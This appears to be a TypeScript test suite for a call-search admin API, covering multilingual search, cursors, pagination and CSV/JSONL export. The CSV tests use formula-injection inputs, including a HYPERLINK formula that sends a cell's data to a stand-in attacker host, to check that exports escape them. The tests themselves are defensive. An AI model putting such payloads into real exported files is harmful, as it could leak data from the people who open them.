/** Search of calls: filters, cursors, call records and CSV. */
import test, { type ExecutionContext } from 'ava';
import * as fc from 'fast-check';
import { z } from 'zod';
import { csvLine } from '#src/api/http/csv.ts';
import {
  decodeCallCursor,
  decodeMomentCursor,
  encodeCallCursor,
  encodeMomentCursor,
} from '#src/api/http/cursor.ts';
import { mostExported, notAllExported } from '#src/domain/call-export.ts';
import type { EndReason } from '#src/domain/end-reasons.ts';
import { recordFact } from '#src/persistence/calls/call-facts.ts';
import { callRecords } from '#src/persistence/calls/call-records.ts';
import { type NewCallRow, type CallRecord, insertEndedCall } from '#src/persistence/calls/calls.ts';
import { searchesSummary } from '#src/persistence/calls/call-search-words.ts';
import { readCsv } from '#test/helpers/read-csv.ts';
import { scriptedStatements } from '#test/helpers/scripted-database.ts';
import { newCallRow, storedCall } from '#test/helpers/stored-number.ts';
import { addWorkspace, fakeGateway, type FakeGateway } from './fake-gateway.ts';
import { storeCall, storeRecording } from './stored-calls.ts';

// Search calls

const searchPath = '/api/v1/admin/calls';
const beginning = new Date('2026-11-21T03:00:00.000Z');

const ownerIn = ({ workspaceId, number }: FakeGateway) => ({
  workspaceId,
  numberId: number.id,
  number: number.number,
});

/** A call in which these words were spoken, as a gateway writes it; without an end reason it is active. */
const talk = async (
  gateway: FakeGateway,
  newCall: Partial<NewCallRow>,
  words: readonly string[],
  reason: EndReason | null = 'agent_hangup',
): Promise<string> => {
  const { database } = gateway;
  const id = await storedCall(database, ownerIn(gateway), { startedAt: beginning, ...newCall });
  const at = (newCall.startedAt ?? beginning).getTime();
  const latency = (index: number) => ({ endpointingMs: 300, firstAudioMs: 100 * (index + 1) });
  let sequence = 1;
  await recordFact(database, id, sequence, { type: 'call.answered', at });
  for (const [index, text] of words.entries()) {
    const [role, told] =
      index % 2 === 0 ? (['assistant', { latency: latency(index) }] as const) : (['user', {}] as const);
    const turn = { type: 'turn.spoken', at, endedAt: at, role, text, whole: true, ...told } as const;
    await recordFact(database, id, (sequence += 1), turn);
  }
  if (reason !== null)
    await recordFact(database, id, sequence + 1, { type: 'call.ended', at, reason, status: 'completed' });
  return id;
};

const listed = z.object({
  calls: z.array(z.object({ id: z.string() })),
  next_cursor: z.string().nullable(),
});

const found = async ({ admin }: FakeGateway, query: Record<string, string>): Promise<string[]> =>
  listed
    .parse((await admin.get(`${searchPath}?${new URLSearchParams(query).toString()}`)).body)
    .calls.map(({ id }) => id);

const finds = async (
  t: ExecutionContext,
  gateway: FakeGateway,
  expected: readonly string[],
  searches: readonly string[],
): Promise<void> => {
  for (const q of searches) {
    t.deepEqual((await found(gateway, { q })).toSorted(), expected.toSorted(), q);
    const query = new URLSearchParams({ q }).toString();
    const { body } = await gateway.admin.get(`/api/v1/admin/call-count?${query}`);
    t.deepEqual(body, { calls: expected.length, has_more: false }, q);
  }
};

test.serial('finds a call by spoken words in any language and by the beginnings of words', async (t) => {
  const gateway = await fakeGateway(t);
  const korean = await talk(gateway, { instruction: '예약 변경' }, [
    '“안녕하세요”, 예약을 확인해 드릴게요…',
    '네. 금요일(오후)로 옮겨 주세요！',
  ]);
  const german = await talk(gateway, { instruction: null }, [
    'Grüße aus ÖSTERREICH.',
    'e-mail an info@example.com, 3.5 %',
  ]);
  await finds(
    t,
    gateway,
    [korean],
    ['예약', '예약 금요', '옮겨', '오후', '안녕', '변경', '네', '금요일로'.slice(0, 3)],
  );
  await finds(t, gateway, [german], ['ÖSTER', 'österreich', 'grüße', 'mail example', '3 5', 'INFO']);
  // A single letter is a whole word, and a word is not found by its end.
  await finds(t, gateway, [], ['예', '약', '요일', 'reich', '예약 헬리콥터']);
});

test.serial('finds a call by its summary, even one stored before summaries were indexed', async (t) => {
  const gateway = await fakeGateway(t);
  const { database } = gateway;
  const id = await talk(gateway, {}, ['여보세요']);
  await finds(t, gateway, [], ['재방문']);
  const at = beginning.getTime();
  await recordFact(database, id, 4, { type: 'call.summarized', at, summary: '고객이 재방문을 원함.' });
  await finds(t, gateway, [id], ['재방문', '여보세요', '재방 여보', '0000']);

  const old = await talk(gateway, {}, ['안녕하세요']);
  await database.execute('update call set summary = $1 where id = $2', ['환불, 예정', old]);
  await finds(t, gateway, [], ['환불']);
  await database.execute(
    `with call_after as (select * from call where id = '${old}'), ${searchesSummary} select 1`,
  );
  await finds(t, gateway, [old], ['환불', '예정 안녕']);
  await finds(t, gateway, [id], ['재방문']);
});

test.serial(
  'finds a call, even an active one, by any four digits of its number in any notation',
  async (t) => {
    const gateway = await fakeGateway(t);
    const over = await talk(gateway, { counterparty: '01012345678' }, []);
    const live = await talk(gateway, { counterparty: '01012349999' }, ['여보세요'], null);
    const abroad = await talk(gateway, { counterparty: '+12025550123', callerName: 'Ada Lovelace' }, []);
    await finds(t, gateway, [over], ['5678', '010-1234-5678', '+82 10 1234 5678', '345678']);
    await finds(t, gateway, [live], ['9999', '0101234 9999']);
    await finds(t, gateway, [over, live], ['1234', '0101', '010-1234']);
    await finds(t, gateway, [abroad], ['+1 202-555-0123', '5550123', 'lovel']);
    await finds(t, gateway, [], ['여보세요', '5679']);

    const rejected = newCallRow(ownerIn(gateway), { counterparty: '01077778888' });
    const end = { status: 'failed', reason: 'caller_rejected', at: beginning } as const;
    await insertEndedCall(gateway.database, rejected, end);
    await finds(t, gateway, [rejected.id], ['7777']);
  },
);

test.serial('finds a call by its id or by the first eight characters of the id', async (t) => {
  const gateway = await fakeGateway(t);
  const id = 'abcdef01-4f0e-4b7e-9b1c-2d1d5a1e0c11';
  await talk(gateway, { id }, []);
  await finds(t, gateway, [id], [id, id.toUpperCase(), 'abcdef01', 'abcdef01-4f', id.replaceAll('-', '')]);
  await finds(t, gateway, [], ['abcdef02', 'abcdef01-5']);
});

test.serial('does not find calls of other workspaces or deleted ones', async (t) => {
  const gateway = await fakeGateway(t);
  const id = await talk(gateway, {}, ['비밀 이야기']);
  await finds(t, gateway, [id], ['비밀', '0000']);
  const other = gateway.admin.as((await addWorkspace(gateway.database)).adminToken);
  for (const q of ['비밀', '0000', id]) t.deepEqual(await found({ ...gateway, admin: other }, { q }), [], q);

  for (const table of ['event', 'recording', 'call_fact', 'call_turn', 'call_transition'])
    await gateway.database.execute(`delete from ${table} where call_id = $1`, [id]);
  await gateway.database.execute('delete from call where id = $1', [id]);
  t.deepEqual(await gateway.database.execute('select * from call_search where call_id = $1', [id]), []);
});

test.serial('shows the turn in which most of the searched words were spoken', async (t) => {
  const gateway = await fakeGateway(t);
  const long = `${'말이 이어지다가 '.repeat(10)}드디어 창가 자리가 나오고 ${'또 이어지고 '.repeat(30)}끝.`;
  const turns = ['예약을 확인해 드릴게요.', long, '“Window” seats, please: No. 7 is fine.'];
  const id = await talk(gateway, { instruction: '전화하기' }, turns);
  await talk(gateway, { instruction: '창가 자리로 바꾸기' }, ['여보세요']);
  const excerptsFor = async (q: string): Promise<unknown[]> => {
    const { body } = await gateway.admin.get(`${searchPath}?${new URLSearchParams({ q }).toString()}`);
    const calls = z.array(z.looseObject({ id: z.string() })).parse(body['calls']);
    return calls.filter((call) => call.id === id).map((call) => call['excerpt']);
  };
  const [seats] = z
    .array(z.object({ role: z.literal('user'), text: z.string() }))
    .parse(await excerptsFor('자리 창가'));
  t.regex(seats?.text ?? '', /^… .*드디어 창가 자리가 나오고 또 .* …$/);
  t.true((seats?.text.length ?? 0) < 180);
  t.deepEqual(await excerptsFor('window 7'), [{ role: 'assistant', text: turns[2] }]);
  t.deepEqual(await excerptsFor('예약'), [{ role: 'assistant', text: turns[0] }]);
  t.deepEqual(await excerptsFor('전화'), [null], 'not in the transcript');
  t.deepEqual(await excerptsFor('0000'), [null], 'a number');
  t.deepEqual(await excerptsFor('여보세요'), []);
});

test.serial('returns results page by page, newest or oldest first, with every filter applied', async (t) => {
  const gateway = await fakeGateway(t);
  const ids: string[] = [];
  for (const second of [0, 1, 1, 2, 3]) {
    const startedAt = new Date(beginning.getTime() + second * 1_000);
    ids.push(await talk(gateway, { startedAt }, ['배송 문의'], second === 3 ? 'busy' : 'agent_hangup'));
  }
  const [first = '', , , , last = ''] = ids;
  for (const order of ['newest', 'oldest']) {
    for (const q of ['배송', '0000']) {
      const pages: string[] = [];
      let query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}`;
      for (;;) {
        const page = listed.parse((await gateway.admin.get(`${searchPath}${query}`)).body);
        pages.push(...page.calls.map(({ id }) => id));
        if (page.next_cursor === null) break;
        query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}&cursor=${page.next_cursor}`;
      }
      t.deepEqual(pages, await found(gateway, { q, order }));
      t.deepEqual(pages.toSorted(), ids.toSorted());
      t.is(order === 'newest' ? pages[0] : pages.at(-1), last);
      t.is(order === 'newest' ? pages.at(-1) : pages[0], first);
    }
  }
  t.deepEqual(await found(gateway, { q: '배송', end_reason: 'busy' }), [last]);
  t.deepEqual(await found(gateway, { end_reason: 'busy' }), [last]);
  t.deepEqual(await found(gateway, { q: '배송', since: '2026-11-21T03:00:03Z' }), [last]);
  t.deepEqual(await found(gateway, { q: '배송', direction: 'inbound' }), []);
});

test.serial('lists the longest calls first, page by page, and those without a duration last', async (t) => {
  const gateway = await fakeGateway(t);
  const { database, admin } = gateway;
  const talked = async (second: number, durationSec: number | null): Promise<string> => {
    const startedAt = new Date(beginning.getTime() + second * 1_000);
    const id = await talk(
      gateway,
      { startedAt },
      ['배송 문의'],
      durationSec === null ? null : 'agent_hangup',
    );
    await database.execute('update call set duration_sec = $1 where id = $2', [durationSec, id]);
    return id;
  };
  const running = await talked(0, null);
  const long = await talked(1, 61.234);
  const earlier = await talked(2, 5.1);
  const later = await talked(3, 5.1);
  const refused = await talked(4, 0);
  const ended = [long, later, earlier, refused];
  for (const [q, expected] of [
    ['', [...ended, running]],
    ['배송', ended],
    ['0000', [...ended, running]],
  ] as const) {
    const pages: string[] = [];
    let cursor: string | null = '';
    while (cursor !== null) {
      const query = new URLSearchParams({ limit: '1', order: 'longest' });
      if (q !== '') query.set('q', q);
      if (cursor !== '') query.set('cursor', cursor);
      const page = listed.parse((await admin.get(`${searchPath}?${query.toString()}`)).body);
      pages.push(...page.calls.map(({ id }) => id));
      cursor = page.next_cursor;
    }
    t.deepEqual(pages, expected, q);
  }
  const pageOf = (query: string) => admin.get(`${searchPath}?limit=1&${query}`);
  for (const [one, other] of [
    ['order=longest', 'order=newest'],
    ['order=newest', 'order=longest'],
  ]) {
    const { next_cursor: cursor } = listed.parse((await pageOf(one ?? '')).body);
    t.is((await pageOf(`${other}&cursor=${cursor}`)).status, 400, other);
  }
  const { bytes } = await admin.get(`${searchPath}.csv?order=longest`);
  const [, ...lines] = readCsv(bytes.subarray(3).toString());
  t.deepEqual(
    lines.map((cells) => cells.at(-1)),
    [...ended, running],
  );
});

test.serial('interprets days in the time zone of the workspace', async (t) => {
  const gateway = await fakeGateway(t);
  const on = (moment: string) => talk(gateway, { startedAt: new Date(moment) }, []);
  const before = await on('2026-11-20T23:59:59.999+09:00');
  const begins = await on('2026-11-21T00:00:00.000+09:00');
  const ends = await on('2026-11-21T23:59:59.999+09:00');
  const after = await on('2026-11-22T00:00:00.000+09:00');
  t.deepEqual(await found(gateway, { first_day: '2026-11-21', last_day: '2026-11-21' }), [ends, begins]);
  t.deepEqual(await found(gateway, { first_day: '2026-11-22' }), [after]);
  t.deepEqual(await found(gateway, { last_day: '2026-11-20' }), [before]);
  t.deepEqual(await found(gateway, { first_day: '2026-11-21', until: '2026-11-21T12:00:00+09:00' }), [
    begins,
  ]);
});

test.serial('lists a call with its number, duration and 95th percentile of turn latency', async (t) => {
  const gateway = await fakeGateway(t);
  await talk(gateway, {}, ['하나', '둘', '셋', '넷', '다섯']);
  const { calls } = (await gateway.admin.get(searchPath)).body;
  t.like(calls, [{ number: gateway.number.number, duration_sec: 0, turn_latency_p95_ms: 800 }]);
});

test.serial('rejects an invalid filter and names its field', async (t) => {
  const gateway = await fakeGateway(t);
  const faults = {
    q: ['', '…', '?!', 'x'.repeat(101), 'a b c d e f g h i', '\0'],
    first_day: ['yesterday', '2026-02-30', '2026-11-21T00:00:00Z', '0001-01-01'],
    last_day: ['2026-13-01', '9999-12-31'],
    end_reason: ['boredom'],
    order: ['random'],
  };
  for (const [field, values] of Object.entries(faults))
    for (const value of values) {
      const { status, body } = await gateway.admin.get(`${searchPath}?${field}=${encodeURIComponent(value)}`);
      t.is(status, 400, `${field}=${value}`);
      t.like(body, { code: 'invalid_request', errors: [{ path: field }] });
    }
});

test.serial('returns a list as CSV with the same filters', async (t) => {
  const gateway = await fakeGateway(t);
  const id = await talk(gateway, { instruction: '=HYPERLINK("http://example.com")' }, ['배송 문의']);
  await talk(gateway, {}, ['다른 이야기']);
  const { status, headers, bytes } = await gateway.admin.get(
    `${searchPath}.csv?q=${encodeURIComponent('배송')}`,
  );
  t.is(status, 200);
  t.is(headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
  t.is(headers.get('content-disposition'), 'attachment; filename="calls.csv"');
  t.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  t.deepEqual(readCsv(bytes.subarray(3).toString()), [
    'started_at,direction,counterparty,number,status,end_reason,duration_sec,turn_latency_p95_ms,instruction,summary,call_id'.split(
      ',',
    ),
    [
      '2026-11-21T12:00:00.000+09:00',
      'outbound',
      '01000000001',
      gateway.number.number,
      'completed',
      'agent_hangup',
      '0',
      '400',
      '\'=HYPERLINK("http://example.com")',
      '',
      id,
    ],
  ]);
  t.is((await gateway.admin.send('HEAD', `${searchPath}.csv`)).status, 200);
  t.is((await gateway.client.get(`${searchPath}.csv`)).status, 401);
});

const storeMany = ({ database, workspaceId, number }: FakeGateway, count: number) =>
  database.execute(
    `insert into call (id, workspace_id, number_id, direction, own_number, counterparty, language, status, max_duration_sec,
       recording_enabled, started_at, node)
     select gen_random_uuid(), $1, $2, 'inbound', '070', '01000000001', 'ko', 'ringing', 60, false,
       now() + n * interval '1 second', 'test' from generate_series(1, $3::int) as n`,
    [workspaceId, number.id, count],
  );

test.serial('lists the calls of all pages in order in one CSV file', async (t) => {
  const gateway = await fakeGateway(t);
  await storeMany(gateway, 1001);
  const { bytes } = await gateway.admin.get(`${searchPath}.csv?order=oldest`);
  const [, ...lines] = readCsv(bytes.subarray(3).toString());
  const times = lines.map(([startedAt = '']) => startedAt);
  t.is(new Set(lines.map((cells) => cells.at(-1))).size, 1001);
  t.deepEqual(times, times.toSorted());
});

test.serial(
  'a truncated CSV file has a last line that reports the truncation, with the full number of columns',
  async (t) => {
    const gateway = await fakeGateway(t);
    await storeMany(gateway, mostExported);
    const linesOf = async () =>
      readCsv((await gateway.admin.get(`${searchPath}.csv`)).bytes.subarray(3).toString());
    const all = await linesOf();
    t.is(all.length, 1 + mostExported);
    t.regex(all.at(-1)?.[0] ?? '', /^\d{4}-/);

    await storeMany(gateway, 1);
    const cut = await linesOf();
    t.is(cut.length, 1 + mostExported + 1);
    t.deepEqual(cut.at(-1), [notAllExported, ...Array.from({ length: (all[0]?.length ?? 0) - 1 }, () => '')]);
  },
);

test.serial("finds calls of a trunk, including the trunk of the gateway's configuration", async (t) => {
  const gateway = await fakeGateway(t);
  const over = await storeCall(gateway, { trunkId: 'configured', trunkName: 'GW_TRUNK' });
  await storeCall(gateway, { trunkId: 'another', trunkName: 'another' });
  await storeCall(gateway);
  t.deepEqual(await found(gateway, { trunk_id: 'configured' }), [over.id]);
  t.deepEqual(await found(gateway, { trunk_id: 'configured', end_reason: 'trunk_error' }), []);
  t.deepEqual(await found(gateway, { trunk_id: 'none' }), []);
});

// Search too broad

test.serial(
  'rejects a search that would take too long, as a list and as a file, but not the list without a search',
  async (t) => {
    const { admin, database } = await fakeGateway(t);
    // Locks the index, so that a search waits until its statement time limit.
    await database.transaction(async ({ execute }) => {
      await execute('lock table call_search in access exclusive mode');
      for (const path of ['/api/v1/admin/calls', '/api/v1/admin/calls.csv']) {
        for (const q of ['word', '0000']) {
          const { status, body } = await admin.get(`${path}?q=${q}`);
          t.is(status, 422);
          t.is(body['code'], 'search_too_broad');
        }
        t.is((await admin.get(path)).status, 200);
      }
    });
  },
);

// Cursor

const moment = fc.date({ min: new Date(0), max: new Date('9999-12-31T23:59:59.999Z'), noInvalidDate: true });

test('decodes a cursor into the encoded position', (t) => {
  fc.assert(
    fc.property(moment, fc.uuid(), (at, id) => {
      t.deepEqual(decodeMomentCursor(encodeMomentCursor({ at, id })), { at, id });
    }),
  );
});

test('decodes a cursor of calls into the encoded position, with and without a duration', (t) => {
  const duration = fc.option(
    fc.double({ min: 0, max: 1e8, noNaN: true }).filter((sec) => !Object.is(sec, -0)),
  );
  fc.assert(
    fc.property(moment, fc.uuid(), duration, (at, id, durationSec) => {
      t.deepEqual(decodeCallCursor(encodeCallCursor({ at, id, durationSec })), { at, id, durationSec });
      t.deepEqual(decodeCallCursor(encodeCallCursor({ at, id })), { at, id });
    }),
  );
  for (const text of [
    '',
    'x',
    Buffer.from('1 x').toString('base64url'),
    Buffer.from('01 ').toString('base64url'),
  ])
    t.is(decodeCallCursor(text), undefined);
});

test('encodes a cursor without characters that a URL must escape', (t) => {
  fc.assert(
    fc.property(moment, fc.uuid(), (at, id) => {
      const cursor = encodeMomentCursor({ at, id });
      t.is(encodeURIComponent(cursor), cursor);
    }),
  );
});

test('rejects any text that is not a cursor', (t) => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.base64String()), (text) => {
      const cursor = decodeMomentCursor(text);
      t.true(cursor === undefined || encodeMomentCursor(cursor) === text);
    }),
  );
  for (const text of ['', 'x', '====', Buffer.from('1.2').toString('base64url')]) {
    t.is(decodeMomentCursor(text), undefined);
  }
});

test('a cursor changed in one character is rejected or decodes to another position', (t) => {
  const cursor = encodeMomentCursor({ at: new Date(0), id: '11111111-2222-4333-8444-555555555555' });
  fc.assert(
    fc.property(
      fc.nat(cursor.length - 1),
      fc.constantFrom(...'ABCxyz019-_=+/ '.split('')),
      (at, character) => {
        const changed = cursor.slice(0, at) + character + cursor.slice(at + 1);
        const decoded = decodeMomentCursor(changed);
        t.true(decoded === undefined || encodeMomentCursor(decoded) === changed);
      },
    ),
  );
});

// Call records

const recordsPath = '/api/v1/admin/call-records';

const at = (minute: number): Date => new Date(Date.UTC(2026, 10, 21, 3, minute));

const recordsIn = (csv: string): Record<string, string>[] => {
  const [names = [], ...lines] = readCsv(csv);
  return lines.map((cells) => Object.fromEntries(cells.map((cell, index) => [names[index] ?? '', cell])));
};

test.serial('returns all known facts of a call in a call record', async (t) => {
  const gateway = await fakeGateway(t);
  const call = await storeCall(gateway, {
    sipStatus: 200,
    sipReason: 'OK',
    sipCallId: 'abc@example.com',
    summary: '=cmd, "quoted"\nand more',
    answeredBy: 'human',
  });
  await storeRecording(gateway.database, call.id, {
    status: 'completed',
    file: 'f',
    contentType: 'audio/ogg',
  });
  const { status, headers, bytes } = await gateway.admin.get(recordsPath);
  t.is(status, 200);
  t.is(headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
  t.is(headers.get('content-disposition'), 'attachment; filename="call-records.csv"');
  const [record, ...others] = recordsIn(bytes.toString());
  t.deepEqual(others, []);
  t.like(record, {
    call_id: call.id,
    number_id: call.numberId,
    direction: 'outbound',
    from: gateway.number.number,
    to: '01000000001',
    language: 'ko',
    status: 'completed',
    end_reason: 'agent_hangup',
    answered_by: 'human',
    started_at: '2026-11-21T12:00:00.000+09:00',
    answered_at: '2026-11-21T12:00:05.000+09:00',
    ended_at: '2026-11-21T12:01:05.500+09:00',
    duration_sec: '60.5',
    sip_status: '200',
    sip_reason: 'OK',
    sip_call_id: 'abc@example.com',
    recording_status: 'completed',
    recording_content_type: 'audio/ogg',
    recording_duration_sec: '60.5',
    instruction: 'Ask about the delivery.',
    summary: '\'=cmd, "quoted"\nand more',
    from_name: '',
    diverted_from: '',
  });
});

test.serial('writes a record in JSON lines like the response for a single call', async (t) => {
  const gateway = await fakeGateway(t);
  const first = await storeCall(gateway, { startedAt: at(0), summary: 'Two\nlines.' });
  const second = await storeCall(gateway, {
    startedAt: at(1),
    status: 'ringing',
    endReason: null,
    answeredAt: null,
    endedAt: null,
    durationSec: null,
  });
  const { headers, bytes } = await gateway.admin.get(`${recordsPath}?format=jsonl`);
  t.is(headers.get('content-type'), 'application/jsonl');
  const lines = bytes.toString().trimEnd().split('\n');
  const read = await Promise.all(
    [first, second].map(async ({ id }) => (await gateway.admin.get(`/api/v1/admin/calls/${id}`)).body),
  );
  t.deepEqual(
    lines.map((line): unknown => JSON.parse(line)),
    read,
  );
});

test.serial(
  'filters by start time, including the first and excluding the last moment, in order',
  async (t) => {
    const gateway = await fakeGateway(t);
    const ids: string[] = [];
    for (const minute of [2, 0, 3, 1]) ids[minute] = (await storeCall(gateway, { startedAt: at(minute) })).id;
    const idsOf = async (query: string): Promise<(string | undefined)[]> => {
      const { bytes } = await gateway.admin.get(`${recordsPath}${query}`);
      return recordsIn(bytes.toString()).map((record) => record['call_id']);
    };
    t.deepEqual(await idsOf(''), ids);
    t.deepEqual(
      await idsOf('?since=2026-11-21T03:01:00Z&until=2026-11-21T12:03:00%2B09:00'),
      ids.slice(1, 3),
    );
    t.deepEqual(await idsOf('?since=2026-11-21T04:00:00Z'), []);
  },
);

test.serial('hides records of other workspaces and rejects number keys', async (t) => {
  const gateway = await fakeGateway(t);
  await storeCall(gateway);
  const other = gateway.admin.as((await addWorkspace(gateway.database)).adminToken);
  t.is(recordsIn((await other.get(recordsPath)).bytes.toString()).length, 0);
  t.is((await gateway.client.get(recordsPath)).status, 401);
});

test.serial('names unsupported query parameters', async (t) => {
  const { admin } = await fakeGateway(t);
  t.like((await admin.get(`${recordsPath}?format=xls&since=yesterday`)).body, {
    code: 'invalid_request',
    errors: [{ path: 'format' }, { path: 'since' }],
  });
  const head = await admin.send('HEAD', recordsPath);
  t.is(head.status, 200);
});

test.serial('returns consecutive pages without gap or duplicate, even for equal start times', async (t) => {
  const gateway = await fakeGateway(t);
  const stored: string[] = [];
  for (let count = 0; count < 7; count += 1) {
    stored.push((await storeCall(gateway, { startedAt: at(count < 4 ? 0 : 1) })).id);
  }
  const { database, workspaceId } = gateway;
  for (const size of [1, 2, 3, 7, 8]) {
    const pages: CallRecord[][] = [];
    const wanted = { workspaceId, since: null, until: at(9) };
    for await (const page of callRecords(database, wanted, size)) pages.push(page);
    t.true(pages.every((page) => page.length > 0 && page.length <= size));
    t.deepEqual(pages.flatMap((page) => page.map(({ id }) => id)).sort(), [...stored].sort());
  }
});

test.serial('streams a file while it generates it', async (t) => {
  const gateway = await fakeGateway(t);
  await storeCall(gateway);
  const statements: string[] = [];
  const { database } = gateway;
  const watched: typeof database = {
    ...database,
    ...scriptedStatements((sql, parameters) => {
      statements.push(sql);
      return database.execute(sql, parameters);
    }),
  };
  const pages = callRecords(
    watched,
    { workspaceId: gateway.workspaceId, since: null, until: new Date('2100-01-01') },
    1,
  );
  t.is(statements.length, 0);
  await pages.next();
  t.is(statements.length, 1);
  await pages.return(undefined);
  t.is(statements.length, 1);
});

// CSV

test('separates cells by commas and ends lines as in RFC 4180', (t) => {
  t.is(csvLine(['a', 1.5, true, null, '']), 'a,1.5,true,,\r\n');
});

test('quotes cells with line breaks, commas or quotes', (t) => {
  t.is(csvLine(['a,b', 'say "no"', 'two\nlines']), '"a,b","say ""no""","two\nlines"\r\n');
});

const formula = test.macro<[string]>({
  exec(t, text) {
    t.deepEqual(readCsv(csvLine(['x', text])), [['x', `'${text}`]]);
  },
  title: (_, text) => `escapes the formula ${JSON.stringify(text)}`,
});

test(formula, '=HYPERLINK("http://evil.example/?"&A1,"click")');
test(formula, '+82');
test(formula, '-1+1');
test(formula, '@SUM(A1)');
test(formula, '  =1');
test(formula, '＝1');

const formulaWithin = test.macro<[string, string]>({
  exec(t, text, safe) {
    t.deepEqual(readCsv(csvLine(['x', text])), [['x', safe]]);
  },
  title: (_, text) => `escapes formulas within ${JSON.stringify(text)}`,
});

test(formulaWithin, '\t=1', "'\t'=1");
test(formulaWithin, '\r=1', "'\r'=1");
test(formulaWithin, 'x;=1+1', "x;'=1+1");
test(formulaWithin, 'x\t=1+1', "x\t'=1+1");
test(formulaWithin, 'x\n@SUM(A1)', "x\n'@SUM(A1)");
test(formulaWithin, 'x;"=1+1"', 'x;\'"=1+1"');
test(formulaWithin, 'x; ＝1;-2', "x;' ＝1;'-2");

test('quotes cells that programs of other locales would split', (t) => {
  t.is(csvLine(['a;b', 'a\tb']), '"a;b","a\tb"\r\n');
});

test('keeps numbers, including negative ones, as numbers', (t) => {
  t.is(csvLine([-1, 0]), '-1,0\r\n');
});

test('any cells are read back unchanged and contain no formula', (t) => {
  const text = fc.string({
    unit: fc.constantFrom('a', '가', '"', ',', ';', '\n', '\r', '\t', '=', '+', '@', ' ', "'"),
  });
  fc.assert(
    fc.property(fc.array(text, { minLength: 1 }), (cells) => {
      const [read = [], ...more] = readCsv(csvLine(cells));
      t.is(more.length, 0);
      const withoutApostrophes = (list: readonly string[]) => list.map((cell) => cell.replaceAll("'", ''));
      t.deepEqual(withoutApostrophes(read), withoutApostrophes(cells));
      for (const part of read.flatMap((cell) => cell.split(/[;\t\r\n]/))) t.notRegex(part, /^[\s"]*[=+@]/);
    }),
  );
});
